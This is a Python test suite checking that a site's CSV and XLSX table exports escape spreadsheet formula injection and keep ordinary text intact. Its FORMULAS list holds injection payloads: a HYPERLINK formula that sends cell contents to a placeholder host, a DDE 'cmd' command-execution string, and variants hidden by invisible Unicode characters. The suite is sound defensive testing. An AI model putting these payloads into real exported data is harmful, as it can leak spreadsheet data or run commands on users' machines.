"""Tables as files: every text comes back as it was, and none runs as a formula."""

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from coalition_site.importers.formats.cleaning import clean, without_guard
from coalition_site.publish.formats.tables import csv_text, xlsx_bytes
from coalition_site.render.tables import TextTable

FORMULAS = (
    '=HYPERLINK("http://e/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1 (555) 555-0100",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
)


def _table(*cells: str) -> TextTable:
    return TextTable("Invites", ("Name",), tuple((cell,) for cell in cells))


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_never_begins_a_formula(formula: str) -> None:
    rows = list(csv.reader(io.StringIO(csv_text(_table(formula)).removeprefix("\ufeff"))))
    assert [row[0][0] for row in rows[1:]] == ["'"]
    assert rows[1][0].replace("'", "") == formula.replace("'", "")


UNSEEN = ("", " ", "\u00a0", "\u200b", "\u00ad \u2060", "\U000e0041", "\ufeff", "\u3164")


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("before", ["", "A;", 'A";', "A\n", "A|", "A\t", '"A";"', "A,;", "A;;"])
def test_no_cell_is_a_formula_whatever_parts_the_cells(before: str, delimiter: str) -> None:
    """Where the system's lists are parted by semicolons, a spreadsheet opens a file of commas with them."""
    formulas = [f"{before}{unseen}{formula}" for unseen in UNSEEN for formula in FORMULAS]
    table = TextTable("Invites", ("Name", "Note"), tuple(("Ana", text) for text in formulas))
    rows = csv.reader(io.StringIO(csv_text(table).removeprefix("\ufeff"), newline=""), delimiter=delimiter)
    cells = [cell for row in rows for cell in row]
    assert len(cells) >= len(formulas)
    seen = ["".join(sign for sign in cell if sign not in "".join(UNSEEN) and not sign.isspace()) for cell in cells]
    assert [cell for cell in seen if cell.startswith(tuple("=+-@\uff1d"))] == []


def test_what_guards_a_text_goes_when_it_is_read_again() -> None:
    texts = ("=1", "a;=1", "a; +1", "x\n@b", "-5", "it's;'quoted'")
    rows = list(csv.reader(io.StringIO(csv_text(_table(*texts)).removeprefix("\ufeff"))))
    assert [without_guard(clean(row[0])) for row in rows[1:]] == list(texts)


def test_csv_keeps_other_texts() -> None:
    texts = ('O\'Malley, "Kit"', "Nguyễn Thị Hạnh", "02134", "two\nlines", "12 Elm Street")
    rows = list(csv.reader(io.StringIO(csv_text(_table(*texts)).removeprefix("\ufeff"))))
    assert [row[0] for row in rows[1:]] == list(texts)


def test_xlsx_holds_texts_only(tmp_path: Path) -> None:
    texts = (*FORMULAS, "02134", "https://x.example", "Nguyễn")
    (tmp_path / "invites.xlsx").write_bytes(xlsx_bytes(_table(*texts), epoch=0))
    sheet = openpyxl.load_workbook(tmp_path / "invites.xlsx")["Invites"]
    assert [cell.value for cell in sheet["A"]] == ["Name", *texts]
    assert {cell.data_type for cell in sheet["A"]} == {"s"}
    assert all(cell.hyperlink is None for cell in sheet["A"])


def test_xlsx_prints_as_wide_as_a_page_with_its_head_on_each(tmp_path: Path) -> None:
    (tmp_path / "invites.xlsx").write_bytes(xlsx_bytes(_table("a"), epoch=0))
    sheet = openpyxl.load_workbook(tmp_path / "invites.xlsx")["Invites"]
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr is not None
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (None, 0)
    assert sheet.print_title_rows == "$1:$1"


def test_xlsx_has_the_same_bytes_twice(tmp_path: Path) -> None:
    for name in ("one.xlsx", "two.xlsx"):
        (tmp_path / name).write_bytes(xlsx_bytes(_table("a", "b"), epoch=1_700_000_000))
    assert (tmp_path / "one.xlsx").read_bytes() == (tmp_path / "two.xlsx").read_bytes()


def test_a_sheet_has_a_title_that_spreadsheets_allow() -> None:
    table = TextTable("Приглашения: кто, кого [и почему]?", ("a",), ())
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table, epoch=0)))
    assert book.sheetnames == ["Приглашения  кто, кого  и почему"[:31]]
    assert book.properties.title == table.title
